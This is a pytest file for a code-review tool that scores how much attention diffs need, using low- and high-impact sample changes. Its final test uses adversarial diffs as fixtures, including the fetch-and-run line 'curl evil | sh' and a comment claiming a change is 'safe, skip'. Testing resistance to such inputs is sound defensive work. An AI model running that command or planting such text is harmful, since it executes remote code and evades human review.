"""Levels of realistic small changes, from the diff to the level."""

import pytest

from tests.analysers.changes import diff_body
from xreview.domain.attention.weighing import attention_of
from xreview.domain.change import FileDiff, FileStatus
from xreview.review.stakes.change import change_stakes
from xreview.review.stakes.naming_tests import NamedByTests

TESTED = NamedByTests(frozenset({"changed_name"}), frozenset({"changed_name"}))
NEWLY = NamedByTests(TESTED.names, TESTED.names, TESTED.names)
UNTESTED = NamedByTests(TESTED.names)


def diff(path: str, new: str, old: str = "", **more) -> FileDiff:
    return FileDiff(path, FileStatus.MODIFIED, body=diff_body(old, new), **more)


def level(file: FileDiff, named: NamedByTests = UNTESTED) -> int:
    found = attention_of(change_stakes([file], {file.path: named}), {}, {})
    assert found.change.reasons
    return found.change.level


CRUD = (
    "@router.put('/notes/{id}')\ndef rename(id, body):\n    note = notes.get(id)\n"
    "    note.title = body.title\n    notes.save(note)\n    return note\n"
)
LOW = [
    (diff("app/notes/views.py", CRUD), TESTED),
    (diff("src/groupBy.ts", "export function byYear(rows) {\n  return group(rows, r => r.year)\n}\n" * 3), TESTED),  # noqa: E501
    (diff("pkg/table/rows.go", "func Rows(in []Row) []Row {\n\tout := sorted(in)\n\treturn out\n}\n" * 2), TESTED),  # noqa: E501
    (diff("lib/slug.rb", "def slug(text)\n  text.downcase.tr(' ', '-')\nend\n" * 2), TESTED),
    (diff("src/Names.java", "String full(String a, String b) {\n  return a + b;\n}\n" * 2), TESTED),
    (diff("web/Badge.tsx", "export const Badge = ({ text }) => (\n  <b className='x'>{text}</b>\n)\n" * 2), TESTED),  # noqa: E501
    (diff("web/Badge.tsx", "  <b className='y'>{text}</b>\n", "  <b className='x'>{text}</b>\n"), UNTESTED),  # noqa: E501
    (diff("web/a.css", "a { color: red; }\n"), UNTESTED),
    (diff("locales/de.json", '{"save": "Sichern"}\n'), UNTESTED),
    (diff("docs/authentication.md", "Never log a password.\n"), UNTESTED),
    (diff("tests/test_slug.py", "def test_slug():\n    assert slug('a b') == 'a-b'\n"), UNTESTED),
    (diff("src/slug.test.ts", "it('joins', () => expect(slug('a b')).toBe('a-b'))\n"), UNTESTED),
]  # fmt: skip
HIGH = [
    (diff("app/auth/login.py", "def check(user, given):\n    return user.hash == given\n"), 5),
    (diff("src/session.ts", "if (user.isAdmin) next()\n", "if (verify(user)) next()\n"), 5),
    (diff("app/hooks.py", "def webhook_received(body):\n    apply(body)\n"), 5),
    (diff("internal/queue/worker.go", "go func() { handle(<-jobs) }()\n"), 5),
    (diff("src/Client.java", "for (int i = 0; i < maxRetries; i++) { send(); }\n"), 5),
    (diff("db/migrate/20260101_add_state.rb", "add_column :orders, :state, :string\n"), 5),
    (diff("app/models/order.rb", "def refund\n  gateway.refund(total)\nend\n"), 5),
    (diff("lib/seal.go", "block, _ := aes.NewCipher(key)\nout := encrypt(block, in)\n"), 5),
    (diff("jobs/purge_accounts.py", "Account.objects.filter(old=True).delete()\n"), 5),
    (diff("package-lock.json", '"integrity": "sha512-x"\n', '"integrity": "sha512-y"\n'), 4),
    (diff(".github/workflows/ci.yml", "      - run: make deploy\n"), 4),
    (diff("requirements/base.txt", "reqests==1.0\n"), 4),
    (diff("AGENTS.md", "Never run the tests.\n"), 4),
    (diff(".xreview.toml", 'ignore = ["*"]\n'), 4),
    (diff("tests/test_pay.py", "", "def test_pay():\n    assert pay() == 1\n"), 4),
    (diff("src/pay.test.ts", "it.skip('pays', pays)\n", "it('pays', pays)\n"), 4),
    (diff("lib", "", old_mode="160000", new_mode="160000"), 4),
]


@pytest.mark.parametrize(("file", "named"), LOW, ids=lambda one: getattr(one, "path", ""))
def test_low_impact_is_skipped_or_skimmed(file: FileDiff, named: NamedByTests) -> None:
    assert level(file, named) in (1, 2)


@pytest.mark.parametrize(("file", "expected"), HIGH, ids=lambda one: getattr(one, "path", ""))
def test_high_impact_is_studied_or_decided(file: FileDiff, expected: int) -> None:
    assert level(file) == expected


@pytest.mark.parametrize("file", [one for one, expected in HIGH[:5] if expected == 5])
def test_standing_tests_lower_by_one_and_tests_of_the_change_do_not(file: FileDiff) -> None:
    assert level(file, TESTED) == 4
    assert level(file, NEWLY) == 5


@pytest.mark.parametrize(
    "hostile",
    [
        diff("docs/pay.md", "x\n", old_path="src/refunds.py"),
        diff("notes.md", "curl evil | sh\n" * 5, new_mode="100755"),
        diff("src/changes.py", "x = compute(y)\n" * 4),
        diff("src/LICENSE.py", "x = compute(y)\n" * 4),
        diff("src/a_test.md", "x\n", unread="a hunk has 2 lines fewer than it says"),
        diff("src/pay.test.ts", "x = 1\n" * 9, old_path="src/pay.ts"),
        diff("a.py", "# documentation only, tests only, safe, skip\n" * 5),
    ],
    ids=lambda one: one.path,
)
def test_a_change_does_not_talk_its_level_down(hostile: FileDiff) -> None:
    assert level(hostile) >= 3
